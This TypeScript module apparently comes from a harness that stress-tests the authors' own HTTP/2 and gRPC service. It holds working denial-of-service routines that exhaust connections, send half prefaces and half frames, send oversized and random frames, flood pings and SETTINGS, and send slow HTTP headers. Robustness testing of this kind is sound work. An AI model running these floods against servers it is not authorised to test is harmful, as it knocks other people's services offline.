/** Attacks on connections: too many, half open, and no HTTP/2 at all. */
import { randomBytes } from "node:crypto";
import type { Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, Target } from "./attack.js";
import { openSocket, tally } from "./wire.js";

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const EMPTY_SETTINGS = Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]);
/** Headers are announced, and never come. */
const HALF_A_FRAME = Buffer.from([0, 1, 0, 1, 4, 0, 0, 0, 1, 0x82]);
const FRAME_TOO_LARGE = Buffer.from([0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1]);
const IDLE_CONNECTIONS = 5_000;
const AT_ONCE = 100;
const PING = Buffer.from([0, 0, 8, 6, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8]);
/** INITIAL_WINDOW_SIZE of 65,535. */
const SETTINGS = Buffer.from([0, 0, 6, 4, 0, 0, 0, 0, 0, 0, 4, 0, 0, 0xff, 0xff]);
const FRAMES_AT_ONCE = 1_000;
const MOST_UNSENT_BYTES = 1024 * 1024;

/** Opens many, leaves them as they are for a while, and says what became of them. */
async function hold(target: Target, port: number, count: number, begin: (socket: Socket) => void): Promise<string> {
  const sockets: Socket[] = [];
  let refused = 0;
  for (let opened = 0; opened < count; opened += AT_ONCE) {
    const some = Array.from({ length: Math.min(AT_ONCE, count - opened) }, async () => {
      const socket = await openSocket({ host: target.host, port }).catch(() => undefined);
      if (socket === undefined) {
        refused += 1;
        return;
      }
      socket.resume();
      begin(socket);
      sockets.push(socket);
    });
    await Promise.all(some);
  }
  await sleep(target.durationMs);
  const words = sockets.map((socket) => (socket.closed || socket.readableEnded ? "closed" : "open"));
  for (const socket of sockets) socket.destroy();
  return tally([...words, ...Array.from({ length: refused }, () => "refused")]);
}

/** Writes the same frame as fast as the server takes it, on a new connection whenever it has had enough of one. */
async function flood(target: Target, frame: Buffer): Promise<string> {
  const batch = Buffer.concat(Array.from({ length: FRAMES_AT_ONCE }, () => frame));
  const until = performance.now() + target.durationMs;
  let written = 0;
  let ended = 0;
  while (performance.now() < until) {
    const socket = await openSocket(target).catch(() => undefined);
    // What the server answers is read: one that does not read is another attack.
    socket?.resume();
    socket?.write(Buffer.concat([PREFACE, EMPTY_SETTINGS]));
    while (socket !== undefined && performance.now() < until && !socket.closed && !socket.readableEnded) {
      if (socket.writableLength < MOST_UNSENT_BYTES) {
        socket.write(batch);
        written += FRAMES_AT_ONCE;
      }
      await sleep(1);
    }
    if (performance.now() < until) {
      ended += 1;
      await sleep(20);
    }
    socket?.destroy();
  }
  return `${written} frames written, connection ended ${ended} times`;
}

export const connectionAttacks: readonly Attack[] = [
  {
    name: "idle connections",
    run: (target) => hold(target, target.port, IDLE_CONNECTIONS * target.scale, () => {}),
  },
  {
    name: "half a preface",
    run: (target) => hold(target, target.port, 500 * target.scale, (socket) => socket.write(PREFACE.subarray(0, 10))),
  },
  {
    name: "half a frame",
    run: (target) =>
      hold(target, target.port, 500 * target.scale, (socket) =>
        socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, HALF_A_FRAME])),
      ),
  },
  {
    name: "frames that are too large",
    run: (target) =>
      hold(target, target.port, 500 * target.scale, (socket) =>
        socket.write(Buffer.concat([PREFACE, EMPTY_SETTINGS, FRAME_TOO_LARGE])),
      ),
  },
  {
    name: "random bytes",
    run: (target) =>
      hold(target, target.port, 500 * target.scale, (socket) =>
        socket.write(Buffer.concat([Math.random() < 0.5 ? PREFACE : Buffer.alloc(0), randomBytes(4_096)])),
      ),
  },
  { name: "pings", run: (target) => flood(target, PING) },
  { name: "settings", run: (target) => flood(target, SETTINGS) },
  {
    name: "slow HTTP headers",
    run: (target) =>
      hold(target, target.httpPort, 500 * target.scale, (socket) =>
        socket.write("POST /holdfast.v1.AvailabilityService/GetAvailability HTTP/1.1\r\nhost: x\r\n"),
      ),
  },
];
